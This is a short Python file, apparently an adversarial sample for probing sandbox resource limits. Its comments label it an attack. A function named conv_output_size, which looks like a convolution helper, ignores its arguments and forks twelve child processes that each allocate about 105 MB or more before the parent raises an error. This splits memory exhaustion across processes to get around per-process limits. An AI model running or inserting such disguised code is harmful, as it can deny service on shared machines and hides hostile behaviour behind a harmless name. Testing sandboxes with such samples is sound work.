# attack: twelve children take memory, each less than any limit of one process.
# alone: memory
import os
import signal
import time

EACH = 300_000_000 if os.getpid() == 1 else 105_000_000  # bytes; more of them in a room


def conv_output_size(size, kernel_size, stride=1, padding=0):
    children = []
    for _ in range(12):
        child = os.fork()
        if child == 0:
            kept = bytearray(b"x") * EACH
            time.sleep(5)
            os.kill(os.getpid(), signal.SIGKILL + 0 * len(kept))
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    raise ValueError
